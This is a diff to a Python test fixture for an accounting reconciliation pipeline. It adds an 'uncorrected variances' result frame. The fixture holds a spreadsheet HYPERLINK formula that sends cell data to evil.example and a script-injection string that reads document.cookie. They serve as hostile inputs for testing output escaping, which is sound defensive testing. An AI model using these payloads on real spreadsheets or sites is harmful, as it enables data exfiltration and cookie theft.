@@ -14,6 +14,7 @@ import polars as pl
 from recon.canonical import SourceFileFact
 from recon.frames import CAUSE, RESULT_FRAMES
 from recon.frames.events import Accounts, Ledger, Locations
+from recon.frames.results import Uncorrected
 from recon.identity import posting_key
 from recon.money import MONEY, ZERO
 from recon.period import parse_period
@@ -21,6 +22,7 @@ from recon.pipeline import Check, Headline, Reconciled, ReconciliationStatus
 from recon.policy import Policy, Reconciliation
 from recon.policy.model import Company, Materiality
 from recon.reporting.model import RunRecord
+from recon.variances import passed_over, uncorrected_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
 SCRIPT = "</script><script>alert(document.cookie)</script>"
@@ -303,7 +305,7 @@ def tie_out_rows() -> list[dict[str, Any]]:
 
 
 def result_frames(month: Month) -> dict[str, pl.DataFrame]:
-    """The eleven result frames of the month."""
+    """The twelve result frames of the month."""
     rejects = [
         {"source": "retail_tickets.csv", "row": 17, "field": "Total", "value": "1e3", "reason": "not an amount"},
         {"source": "retail_tickets.csv", "row": 18, "field": "Type", "value": SCRIPT, "reason": "not sale or return"},
@@ -327,8 +329,31 @@ def result_frames(month: Month) -> dict[str, pl.DataFrame]:
         "adjustment_lines": month.adjustment_lines,
         "open_items": month.open_items,
         "rejects": rejects,
+        "uncorrected": [],
     }
-    return {name: frame(schema, rows[name]) for name, schema in RESULT_FRAMES.items()}
+    frames = {name: frame(schema, rows[name]) for name, schema in RESULT_FRAMES.items()}
+    frames["uncorrected"] = uncorrected_rows(frames)
+    return frames
+
+
+def uncorrected_rows(frames: Mapping[str, pl.DataFrame]) -> pl.DataFrame:
+    """What the month lets pass, after what August left."""
+    accounts = frame(
+        Accounts,
+        [
+            {"account": number, "title": title, "normal_balance": side, "type": kind}
+            for number, title, side, kind, *_ in CHART
+        ],
+    )
+    own = uncorrected_of(
+        passed_over(frames["variances"]), frames["variances"], frames["variance_lines"], accounts, PERIOD
+    )
+    before = {
+        "period": "2026-08", "period_end": PERIOD.start - dt.timedelta(days=1), "variance_id": "V-august",
+        "reconciliation": "deposits", "account": "6510", "location": "101", "cause": "fee_unbooked",
+        "treatment": "waived", "amount": Decimal("3.10"), "pretax_effect": Decimal("-3.10"), "note": SCRIPT,
+    }  # fmt: skip
+    return pl.concat([frame(Uncorrected, [before]), own]) if frames["variances"].height else own
 
 
 def reconciled(month: Month) -> Reconciled:
